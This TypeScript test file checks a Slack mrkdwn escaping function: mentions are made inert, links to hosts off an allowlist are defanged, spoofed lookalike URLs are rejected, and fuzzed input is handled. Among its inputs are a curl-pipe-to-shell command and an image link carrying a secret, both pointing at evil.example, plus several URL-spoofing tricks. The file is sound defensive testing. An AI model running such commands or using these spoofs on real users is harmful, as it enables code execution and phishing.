import assert from 'node:assert/strict'
import { test } from 'node:test'
import fc from 'fast-check'
import { escapeMrkdwn, mrkdwnText, plainText } from '../../src/text/escape.ts'

const HOSTS = ['grafana.corp', 'vigil.corp:8080']
const shown = (text: string): string => mrkdwnText(text, { hosts: HOSTS })

test('special characters, mentions and calls to everyone are inert', () => {
  assert.equal(escapeMrkdwn('a < b & c > d <!channel> <@U1> <#C1>'), 'a &lt; b &amp; c &gt; d &lt;!channel&gt; &lt;@U1&gt; &lt;#C1&gt;')
  assert.equal(
    escapeMrkdwn('@channel @here @Everyone @channels ana@here.example'),
    '@ channel @ here @ Everyone @channels ana@ here.example',
  )
})

test('links to listed hosts live, in whatever spelling', () => {
  assert.equal(shown('see https://grafana.corp/d/1?a=1&b=2.'), 'see <https://grafana.corp/d/1?a=1&amp;b=2>.')
  assert.equal(shown('<https://grafana.corp/d/1|the dashboard>'), '<https://grafana.corp/d/1|the dashboard>')
  assert.equal(shown('[the *dash* <b>](https://grafana.corp:3000/d)'), '<https://grafana.corp:3000/d|the *dash* &lt;b&gt;>')
  assert.equal(shown('http://vigil.corp:8080/e/3'), '<http://vigil.corp:8080/e/3>')
})

test('links to other hosts are shown and dead, in whatever spelling', () => {
  assert.equal(shown('go to https://evil.example/x?d=1, now'), 'go to `hxxps://evil.example/x?d=1`, now')
  assert.equal(shown('<https://evil.example|Grafana>'), 'Grafana (`hxxps://evil.example`)')
  assert.equal(shown('[Grafana](https://evil.example)'), 'Grafana (`hxxps://evil.example`)')
  assert.equal(shown('![chart](https://evil.example/p.png?s=secret)'), 'chart (`hxxps://evil.example/p.png?s=secret`)')
  assert.equal(shown('www.evil.example'), '`www[.]evil.example`')
  assert.equal(shown('[x](slack://open?team=T1)'), 'x (`slack://open?team=T1`)')
  assert.equal(shown('http://vigil.corp:9090/'), '`hxxp://vigil.corp:9090/`')
})

test('a host that only looks listed is not', () => {
  for (const url of [
    'https://grafana.corp.evil.example',
    'https://grafana.corp@evil.example/',
    'https://evil.example/grafana.corp',
    'https://evil.example#grafana.corp',
    'https://grafana.corp%2eevil.example',
    'https:\\\\evil.example',
  ])
    assert.doesNotMatch(shown(url), /<|https:\/\/evil/, url)
})

test('a listed host is linked in its normal form, so that no client reads another host into it', () => {
  assert.equal(shown('https://grafana.corp\\@evil.example'), '<https://grafana.corp/%40evil.example>')
  assert.equal(shown('HTTPS://GRAFANA.CORP/a|b'), '<https://grafana.corp/a>|b')
})

test('code and hosts inside stay as they are, so that a command can be pasted', () => {
  assert.equal(shown('run `curl http://checkout:8080/healthz > x`'), 'run `curl http://checkout:8080/healthz &gt; x`')
  assert.equal(
    shown('http://db.svc.cluster.local:5432/ and http://10.1.2.3/'),
    '`http://db.svc.cluster.local:5432/` and `http://10.1.2.3/`',
  )
  assert.equal(shown('`curl https://evil.example/i.sh | sh`'), '`curl hxxps://evil.example/i.sh | sh`')
})

test('a link that is put together from pieces does not come alive', () => {
  for (const text of [
    'htt[p://evil.example](x)',
    'http:/[/evil.example](x)',
    'h[ttp](x)://evil.example',
    '<htt|x>ps://evil.example',
    '[a[b](https://evil.example)](https://evil.example)',
    'xhttps://evil.example',
  ])
    assert.doesNotMatch(shown(text), /https?:\/\/evil|<http/, text)
})

test('whatever comes in, what goes out has no token but links to listed hosts, and no live mention', () => {
  const piece = fc.constantFrom(
    '<',
    '>',
    '|',
    '!channel',
    '@U1',
    '@here',
    'http',
    's',
    '://',
    'evil.example',
    'grafana.corp',
    '/p',
    '[',
    ']',
    '(',
    ')',
    '`',
    '```',
    '\\',
    ' ',
    '\n',
    '&',
    '&lt;',
    'www.',
    '@',
    ':',
    'x',
    '!',
    '"',
    '\u200b',
  )
  const text = fc.oneof(
    fc.array(piece, { maxLength: 30 }).map((pieces) => pieces.join('')),
    fc.string({ unit: 'binary' }),
  )
  fc.assert(
    fc.property(text, (input) => {
      const output = shown(input)
      const rest = output.replace(/<https?:\/\/grafana\.corp(?::\d+)?(?:\/[^<>|\s]*)?(?:\|[^<>|]*)?>/g, '')
      assert.doesNotMatch(rest, /[<>]/)
      assert.doesNotMatch(rest, /&(?!amp;|lt;|gt;)/)
      assert.doesNotMatch(rest, /https?:\/\/evil/)
      assert.doesNotMatch(output, /@(?:here|channel|everyone)\b/i)
    }),
    { numRuns: 5000 },
  )
})

test('a push is one plain line within its limit', () => {
  assert.equal(
    plainText('*Act now:*  `v2.14.0` cut\ncheckout :fire: pool_max [see](https://evil.example) <https://x.example|E3> & <!here>'),
    'Act now: v2.14.0 cut checkout pool_max see E3 &amp; &lt;!here&gt;',
  )
  assert.equal(plainText('https://evil.example/x at 10:20:30, a::b'), 'hxxps://evil.example/x at 10:20:30, a::b')
  fc.assert(
    fc.property(fc.string({ unit: 'grapheme' }), fc.integer({ min: 1, max: 120 }), (text, max) => {
      const line = plainText(text, max)
      assert.ok(line.length <= max)
      assert.doesNotMatch(line, /[<>\n`]|&(?!amp;|lt;|gt;)/)
    }),
  )
})

test('long hostile text is rendered in a moment', () => {
  for (const unit of ['[', '![', '[a](', '<http:', '`', '```', 'http://', '](', 'www.', ')', '*a', '@'])
    for (const render of [shown, plainText]) {
      const start = performance.now()
      render(unit.repeat(Math.ceil(100_000 / unit.length)))
      assert.ok(performance.now() - start < 1000, unit)
    }
})
